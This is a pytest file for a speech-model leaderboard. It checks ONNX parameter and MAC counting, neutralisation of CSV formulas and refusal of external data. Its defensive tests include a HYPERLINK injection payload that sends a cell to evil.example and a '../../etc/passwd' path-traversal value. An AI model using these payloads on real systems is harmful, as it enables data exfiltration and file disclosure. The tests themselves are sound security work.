"""Honest leaderboard columns: every weight tensor counts, MACs per second is measured, CSV cells run no formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper
from rest_framework.test import APIClient

from benchmark.leaderboard.board import csv_safe, leaderboard_csv
from benchmark.leaderboard.evaluation import metrics as metrics_module
from benchmark.leaderboard.evaluation.checks import check_submission
from benchmark.leaderboard.evaluation.metrics import graph_metrics
from tests.benchmark.test_leaderboard import ready_release, scored

HOP, HIDDEN, CLASSES = 160, 64, 41
RNG = np.random.default_rng(0)
W1 = (RNG.standard_normal((HOP, HIDDEN)) * 0.05).astype(np.float32)
B1 = (RNG.standard_normal(HIDDEN) * 0.05).astype(np.float32)
W2 = (RNG.standard_normal((HIDDEN, CLASSES)) * 0.05).astype(np.float32)
B2 = (RNG.standard_normal(CLASSES) * 0.05).astype(np.float32)
FRAME_SHAPE = np.array([1, -1, HOP], dtype=np.int64)
# Two weight matrices, two biases and the 3-element frame shape: what the file really holds.
TRUE_PARAMETERS = HOP * HIDDEN + HIDDEN + HIDDEN * CLASSES + CLASSES + 3


def _constant(name: str, array: np.ndarray) -> onnx.NodeProto:
    return helper.make_node("Constant", [], [name], value=numpy_helper.from_array(array, name))


def waveform_model(
    nodes: list[onnx.NodeProto], name: str, initializers: Sequence[onnx.TensorProto] = ()
) -> onnx.ModelProto:
    """The graph of ``nodes`` as a submission's model (opset 17): waveform [1, N] in, log_probs [1, frames, 41] out."""
    graph = helper.make_graph(
        nodes,
        name,
        [helper.make_tensor_value_info("waveform", TensorProto.FLOAT, [1, "samples"])],
        [helper.make_tensor_value_info("log_probs", TensorProto.FLOAT, [1, "frames", CLASSES])],
        initializer=initializers,
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def mlp(weights: str) -> onnx.ModelProto:
    """waveform [1, N] -> frames of 160 -> Linear(160, 64) -> ReLU -> Linear(64, 41) -> log-softmax.

    ``weights`` says where the tensors live: ``initializer``, ``constant`` (Constant nodes, in every attribute
    form), ``constant_of_shape`` (the second matrix is ConstantOfShape of a constant shape), or ``subgraph``
    (the second layer sits in both branches of an ``If``, each with its own Constant weights).
    """
    tensors = {"W1": W1, "B1": B1, "W2": W2, "B2": B2, "frame_shape": FRAME_SHAPE}
    nodes: list[onnx.NodeProto] = []
    initializers: list[onnx.TensorProto] = []
    if weights == "initializer":
        initializers = [numpy_helper.from_array(v, k) for k, v in tensors.items()]
    else:
        nodes = [
            _constant("W1", W1),
            helper.make_node("Constant", [], ["B1"], value_floats=B1.tolist()),
            helper.make_node("Constant", [], ["frame_shape"], value_ints=FRAME_SHAPE.tolist()),
            _constant("B2", B2),
        ]
        if weights == "constant":
            nodes.append(_constant("W2", W2))
        elif weights == "constant_of_shape":
            nodes += [
                helper.make_node("Constant", [], ["W2_shape"], value_ints=[HIDDEN, CLASSES]),
                helper.make_node(
                    "ConstantOfShape",
                    ["W2_shape"],
                    ["W2"],
                    value=numpy_helper.from_array(np.array([0.01], np.float32)),
                ),
            ]
    nodes += [
        helper.make_node("Reshape", ["waveform", "frame_shape"], ["frames"]),
        helper.make_node("MatMul", ["frames", "W1"], ["h1"]),
        helper.make_node("Add", ["h1", "B1"], ["h1b"]),
        helper.make_node("Relu", ["h1b"], ["h"]),
    ]
    if weights == "subgraph":

        def branch(name: str, w: np.ndarray) -> onnx.GraphProto:
            return helper.make_graph(
                [_constant(f"{name}_W2", w), helper.make_node("MatMul", ["h", f"{name}_W2"], [f"{name}_out"])],
                name,
                [],
                [helper.make_tensor_value_info(f"{name}_out", TensorProto.FLOAT, None)],
            )

        nodes += [
            helper.make_node("Constant", [], ["use_then"], value=numpy_helper.from_array(np.array(True))),
            helper.make_node(
                "If", ["use_then"], ["logits"], then_branch=branch("then", W2), else_branch=branch("else", W2 * 2)
            ),
        ]
    else:
        nodes.append(helper.make_node("MatMul", ["h", "W2"], ["logits"]))
    nodes += [
        helper.make_node("Add", ["logits", "B2"], ["logits_b"]),
        helper.make_node("LogSoftmax", ["logits_b"], ["log_probs"], axis=-1),
    ]
    return waveform_model(nodes, "mlp", initializers)


def save(model: onnx.ModelProto, tmp_path: Path, name: str) -> Path:
    path = tmp_path / f"{name}.onnx"
    path.write_bytes(model.SerializeToString())
    return path


@pytest.mark.parametrize("weights", ["initializer", "constant"])
def test_constant_node_weights_count_like_initializers(tmp_path, weights):
    path = save(mlp(weights), tmp_path, weights)

    metrics = graph_metrics(path)

    assert metrics.parameters == TRUE_PARAMETERS == check_submission(path).parameters
    assert metrics.depth == 2
    assert metrics.macs_per_second == 100 * (HOP * HIDDEN + HIDDEN * CLASSES)


def test_a_constant_of_shape_weight_counts_its_full_size(tmp_path):
    path = save(mlp("constant_of_shape"), tmp_path, "cos")

    metrics = graph_metrics(path)

    # The ConstantOfShape matrix counts its 64 x 41 elements, plus the 2-element shape it is made from.
    assert metrics.parameters == TRUE_PARAMETERS + 2 == check_submission(path).parameters
    assert metrics.depth == 2


def test_weights_inside_subgraphs_count_and_the_branch_layer_adds_depth(tmp_path):
    path = save(mlp("subgraph"), tmp_path, "subgraph")

    metrics = graph_metrics(path)

    # Both branches keep a 64 x 41 matrix; the If's condition is one more element.
    assert metrics.parameters == TRUE_PARAMETERS + HIDDEN * CLASSES + 1 == check_submission(path).parameters
    assert metrics.depth == 2


def test_a_weight_matrix_given_first_is_still_a_layer(tmp_path):
    """MatMul(W, x) is a weight layer too, with W a Constant."""
    nodes = [
        _constant("shape", np.array([HOP, -1], np.int64)),
        _constant("W", np.ones((CLASSES, HOP), np.float32)),
        helper.make_node("Reshape", ["waveform", "shape"], ["columns"]),  # [160, frames]
        helper.make_node("MatMul", ["W", "columns"], ["scores"]),  # [41, frames]
        helper.make_node("Transpose", ["scores"], ["rows"], perm=[1, 0]),
        helper.make_node("Unsqueeze", ["rows", "axis"], ["batched"]),
        helper.make_node("LogSoftmax", ["batched"], ["log_probs"], axis=-1),
    ]
    model = waveform_model([_constant("axis", np.array([0], np.int64)), *nodes], "g")
    metrics = graph_metrics(save(model, tmp_path, "w"))

    assert metrics.depth == 1
    assert metrics.parameters == 2 + CLASSES * HOP + 1


def strided_conv_model() -> onnx.ModelProto:
    """A frame count shape inference cannot follow: the waveform is cut to whole hops by arithmetic on its length
    (through float, which data propagation does not carry), then a Conv of stride 160 frames it."""
    nodes = [
        _constant("one", np.array([1], np.int64)),
        _constant("zero", np.array([0], np.int64)),
        _constant("hop", np.array([HOP], np.float32)),
        _constant("kernel", (RNG.standard_normal((8, 1, 400)) * 0.05).astype(np.float32)),
        _constant("W", (RNG.standard_normal((8, CLASSES)) * 0.05).astype(np.float32)),
        helper.make_node("Shape", ["waveform"], ["shape"]),
        helper.make_node("Gather", ["shape", "one"], ["length"]),
        helper.make_node("Cast", ["length"], ["length_f"], to=TensorProto.FLOAT),
        helper.make_node("Div", ["length_f", "hop"], ["hops_f"]),
        helper.make_node("Floor", ["hops_f"], ["hops_floor"]),
        helper.make_node("Mul", ["hops_floor", "hop"], ["usable_f"]),
        helper.make_node("Cast", ["usable_f"], ["usable"], to=TensorProto.INT64),
        helper.make_node("Slice", ["waveform", "zero", "usable", "one"], ["cut"]),
        helper.make_node("Unsqueeze", ["cut", "one"], ["channels"]),  # [1, 1, N']
        helper.make_node("Conv", ["channels", "kernel"], ["conv"], strides=[HOP]),  # [1, 8, frames]
        helper.make_node("Transpose", ["conv"], ["frames"], perm=[0, 2, 1]),
        helper.make_node("MatMul", ["frames", "W"], ["logits"]),
        helper.make_node("LogSoftmax", ["logits"], ["log_probs"], axis=-1),
    ]
    return waveform_model(nodes, "strided")


def test_macs_per_second_is_measured_when_shape_inference_cannot_resolve_frames(tmp_path):
    model = strided_conv_model()
    path = save(model, tmp_path, "strided")
    fixed = metrics_module._probe_model(model)
    counted = [n for n in fixed.graph.node if metrics_module._counted(n)]

    metrics = graph_metrics(path)

    assert metrics_module._count_macs(counted, metrics_module._static_shapes(fixed)) is None  # the probe was needed
    frames = (16_000 - 400) // HOP + 1  # 98 frames from one second
    assert metrics.macs_per_second == frames * 8 * 400 + frames * 8 * CLASSES
    assert metrics.depth == 2
    assert check_submission(path).parameters == metrics.parameters


def test_a_platform_export_gets_macs_per_second(tmp_path):
    torch = pytest.importorskip("torch")
    from training.ml.config import FeatureConfig, ModelConfig
    from training.ml.export import WaveformModel, export_onnx
    from training.ml.features import Normaliser
    from training.ml.models import build_model

    torch.manual_seed(0)
    config = ModelConfig(kind="dnn", depth=2, width=64, bottleneck=16, dropout=0.0)
    net = build_model(config)
    path = export_onnx(WaveformModel(net, Normaliser(), FeatureConfig()), tmp_path / "dnn.onnx")

    metrics = graph_metrics(path)

    learned = sum(p.numel() for p in net.parameters())
    assert metrics.macs_per_second is not None and metrics.macs_per_second > 100 * learned
    # The feature extractor's fixed matrices are Constant nodes in the file, and count like any weight.
    assert metrics.parameters > learned


# --- CSV injection -------------------------------------------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_cells_that_would_run_as_formulas_are_neutralised(db):
    release = ready_release("v1")
    result = scored(release, EVIL, per=0.25, parameters=1_000, depth=1)
    result.submission.url = "@SUM(1+1)"
    result.submission.save(update_fields=["url"])
    scored(release, "-minus", per=0.30, parameters=2_000, depth=2)

    response = APIClient().get("/api/v1/leaderboard.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["name"] for r in rows] == ["'" + EVIL, "'-minus"]
    assert rows[0]["url"] == "'@SUM(1+1)"
    assert (rows[0]["per_hidden"], rows[0]["parameters"], rows[0]["depth"]) == ("0.25", "1000", "1")
    assert APIClient().get("/api/v1/leaderboard/").json()["results"][0]["name"] == EVIL  # JSON is unchanged


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised_in_text_but_numbers_stay_numbers(text):
    assert csv_safe(text) == "'" + text
    assert csv_safe("plain") == "plain" and csv_safe(-1.5) == -1.5 and csv_safe(-3) == -3 and csv_safe(None) is None
    row = {"name": text, "per_hidden": -0.5, "parameters": -7}
    (line,) = list(csv.DictReader(io.StringIO(leaderboard_csv([row]))))
    assert line["name"] == "'" + text and line["per_hidden"] == "-0.5" and line["parameters"] == "-7"


def test_external_data_inside_a_subgraph_is_refused(tmp_path):
    from benchmark.leaderboard.evaluation.checks import SubmissionRejected

    model = mlp("subgraph")
    branch = next(a.g for n in model.graph.node if n.op_type == "If" for a in n.attribute if a.name == "then_branch")
    tensor = branch.node[0].attribute[0].t
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../etc/passwd")
    with pytest.raises(SubmissionRejected) as exc:
        check_submission(save(model, tmp_path, "external"))
    assert exc.value.code == "model_external_data"
